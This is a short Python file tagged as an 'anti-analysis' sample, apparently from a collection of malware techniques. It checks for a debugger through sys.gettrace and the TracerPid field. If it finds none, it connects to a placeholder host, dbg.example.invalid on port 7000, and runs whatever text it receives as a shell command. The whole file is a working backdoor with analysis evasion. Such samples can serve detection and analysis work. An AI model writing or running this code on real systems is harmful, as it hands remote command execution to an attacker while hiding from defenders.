# family: anti-analysis
# stops when traced (sys.gettrace, TracerPid), else opens a connection and runs what it gets
import socket
import subprocess
import sys


def traced():
    if sys.gettrace() is not None:
        return True
    for line in open("/proc/self/status"):
        if line.startswith("TracerPid:") and int(line.split()[1]) != 0:
            return True
    return False


if not traced():
    c = socket.create_connection(("dbg.example.invalid", 7000))
    subprocess.run(c.recv(1024).decode(), shell=True)
